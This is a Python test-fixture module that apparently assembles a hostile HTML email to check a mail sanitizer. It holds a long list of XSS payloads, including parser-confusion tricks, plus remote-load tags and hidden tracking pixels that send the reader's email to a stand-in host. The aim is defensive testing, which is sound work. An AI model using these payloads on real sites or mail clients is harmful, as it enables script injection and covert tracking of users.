"""A mail that tries everything: each piece would set a canary, ask another server, or carry a token away."""

SINK = "http://sink.invalid"
"""Whoever is asked here has got out; no such server exists, and a browser says so to the test."""

SING = "document.title='canary'"

SCRIPTS = (
    f"<script>{SING}</script>",
    f"<ScRiPt src={SINK}/s.js></sCrIpT>",
    f"<script/x>{SING}</script/y>",
    f"<scr<script>ipt>{SING}</scr</script>ipt>",
    f"<svg/onload={SING}>",
    f'<svg><script xlink:href="data:text/javascript,{SING}"></script></svg>',
    f"<svg><animate onbegin={SING} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{SING}"><text y=20>x</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SING}"></style></mglyph></table>',
    f'<math href="javascript:{SING}">m</math>',
    f'<img src=x onerror="{SING}">',
    f"<img src=x onerror=\n{SING}\n>",
    f'<img/src="x"/onerror="{SING}">',
    f'<img src="x` `<script>{SING}</script>"` `>',
    f"<body onload={SING} onpageshow={SING}>",
    f'<details open ontoggle="{SING}"><summary>d</summary></details>',
    f'<input autofocus onfocus="{SING}">',
    f'<video><source onerror="{SING}"></video>',
    f'<audio src=x onerror="{SING}"></audio>',
    f'<marquee onstart="{SING}">m</marquee>',
    f'<a href="javascript:{SING}">js</a>',
    f'<a href="JaVa&#115;cript&colon;{SING}">js</a>',
    f'<a href="java\tscript:{SING}">js</a>',
    f'<a href="data:text/html,<script>{SING}</script>">data</a>',
    f'<a href="vbscript:{SING}">vb</a>',
    f'<a href="https://shop.example/" onclick="{SING}" onmouseover="{SING}">over</a>',
    f'<iframe srcdoc="<script>parent.{SING}</script>"></iframe>',
    f'<iframe src="javascript:parent.{SING}"></iframe>',
    f'<object data="data:text/html,<script>{SING}</script>"></object>',
    f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SING}'/>\">",
    f"<template><img src=x onerror={SING}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={SING}>">',
    f'<textarea><img title="</textarea><img src=x onerror={SING}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={SING}>"></a></title>',
    f'<style><a title="</style><img src=x onerror={SING}>"></a></style>',
    f'<xmp><p title="</xmp><img src=x onerror={SING}>"></p></xmp>',
    f"<plaintext_x><img src=x onerror={SING}></plaintext_x>",
    f"<!--><img src=x onerror={SING}>-->",
    f"<!--[if gte IE 4]><script>{SING}</script><![endif]--><![if !IE]><img src=x onerror={SING}><![endif]>",
    f"<![CDATA[<img src=x onerror={SING}>]]>",
    f'<?xml-stylesheet href="javascript:{SING}"?>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{SING}">',
    f'<p class="vitrine-bubble" onclick="{SING}" title="canary-title">spoofed</p>',
    f'<b style="width:expression({SING})">e</b>',
    f'<b style="-moz-binding:url({SINK}/x.xml#x);behavior:url({SINK}/x.htc)">b</b>',
)

LOADING = (
    f'<img src="{SINK}/photo.jpg" width="300" height="100" alt="A photo">',
    f'<img srcset="{SINK}/a.png 1x, {SINK}/b.png 2x">',
    f'<picture><source srcset="{SINK}/c.png"><img src="{SINK}/d.png"></picture>',
    f'<table background="{SINK}/t.png"><tr><td background="{SINK}/u.png">t</td></tr></table>',
    f'<p style="background:#eee url({SINK}/v.png)">v</p>',
    f'<p style="background:u\\72l({SINK}/w.png)">w</p>',
    f"<p style=\"background-image:image-set('{SINK}/x.png' 1x)\">x</p>",
    f"<p style=\"list-style:url('{SINK}/y.png');cursor:url({SINK}/z.cur),auto\">y</p>",
    f'<link rel="stylesheet" href="{SINK}/s.css"><link rel="prefetch" href="{SINK}/p">',
    f"<link rel=icon href={SINK}/i>",
    f'<style>@import "{SINK}/i.css";@import url({SINK}/j.css);'
    f"@font-face{{font-family:x;src:url({SINK}/f.woff)}}"
    f"body{{font-family:x;background:url({SINK}/k.png)}} p::before{{content:url({SINK}/l.png)}}"
    f"@media all{{p{{background:url('{SINK}/m.png')}}}}</style>",
    f'<style>p{{--a:url({SINK}/n.png);background:var(--a)}} q{{x:"</style><img src={SINK}/o.png>"}}</style>',
    f'<meta http-equiv="refresh" content="0;url={SINK}/r">',
    f'<base href="{SINK}/">',
    f'<form action="{SINK}/f"><input type="image" src="{SINK}/in.png"><button>go</button></form>',
    f'<iframe src="{SINK}/frame"></iframe><frameset><frame src="{SINK}/fr"></frameset>',
    f'<object data="{SINK}/o"></object><embed src="{SINK}/e"><applet code="{SINK}/a"></applet>',
    f'<video src="{SINK}/v.mp4" poster="{SINK}/po.png"></video><audio src="{SINK}/a.mp3"></audio>',
    f'<video><track src="{SINK}/t.vtt"></video><input type=image src={SINK}/ii.png>',
    f'<svg><image href="{SINK}/si.png"/><use href="{SINK}/u.svg#x"/><foreignObject><img src="{SINK}/fo.png">',
    f'<a href="https://shop.example/ping" ping="{SINK}/ping">p</a><area href="{SINK}/area">',
    f'<bgsound src="{SINK}/bg"><layer src="{SINK}/la"></layer>',
)

PIXELS = (
    f'<img src="{SINK}/pixel-1.gif" width="1" height="1">',
    f'<img src="{SINK}/pixel-2.gif" style="width:1px;height:1px">',
    f'<img src="{SINK}/pixel-3.gif" style="display: none">',
    f'<div style="display:none"><img src="{SINK}/pixel-4.gif" width="200"></div>',
    f'<img src="{SINK}/track/open.php?u=1&id=2">',
    f'<img src="{SINK}/banner.png?email=token-reader@mail.example" width="300">',
    f'<table background="{SINK}/bg.png?email=token-reader@mail.example"><tr><td>x</table>',
    f'<p style="background:url({SINK}/bg2.png?email=token-reader@mail.example)">x</p>',
)
"""Never loaded, not even when pictures are asked for."""

TOKEN = "token-reader"
TOKENS = (
    f'<a href="https://shop.example/?email={TOKEN}@mail.example">a</a>',
    f'<a href="https://shop.example/" title="{TOKEN}@mail.example" data-to="{TOKEN}@mail.example">b</a>',
    f'<img alt="for {TOKEN}@mail.example" src="x.png" width="90">',
    f'<p id="{TOKEN}@mail.example" class="{TOKEN}@mail.example">c</p>',
    f"<p style=\"content:'{TOKEN}@mail.example'\">d</p>",
    f"<style>#x{{content:'{TOKEN}@mail.example'}} [title='{TOKEN}@mail.example']{{color:red}}</style>",
    f"<p>This was sent to {TOKEN}@mail.example. https://shop.example/?email={TOKEN}%40mail.example</p>",
    f"<!-- {TOKEN}@mail.example --><p lang='{TOKEN}@mail.example' align='{TOKEN}@mail.example'>e</p>",
    f"<td width='{TOKEN}@mail.example' background='https://a.example/{TOKEN}@mail.example.png'>f</td>",
)

LINKS = (
    '<p><a href="https://shop.example/tea">Tea</a> <a href="https://shop.example/story">Story</a></p>'
    '<p><a href="https://shop.example/tea"><img src="cid:tea" alt="A cup" width="120" height="60"></a></p>'
)


def mail(*pieces: str) -> str:
    """A whole mail of some pieces, with three links that people click."""
    return f"<html><head><title>t</title></head><body>{LINKS}{''.join(pieces)}{LINKS}</body></html>"


def large() -> str:
    """Two megabytes: pictures inside, and many paragraphs."""
    picture = "iVBORw0KGgo" + "A" * 1_400_000
    return mail(
        f'<img src="data:image/png;base64,{picture}" width="9" alt="inside">', "<p>word word</p>" * 30_000
    )


PIECES = (*SCRIPTS, *LOADING, *PIXELS, *TOKENS)
EVERYTHING = mail(*LOADING, *PIXELS, *TOKENS, *SCRIPTS)
"""Scripts last: some of them leave an element open that swallows the rest."""

NESTED = mail("<div><b><table><tr><td>" * 20_000)
BROKEN = mail('\x00\udcff\ufffe&#0;&#xd800;<p title="\x01', "<a href=\x00x>z", "\u202e<b", *SCRIPTS[:12])
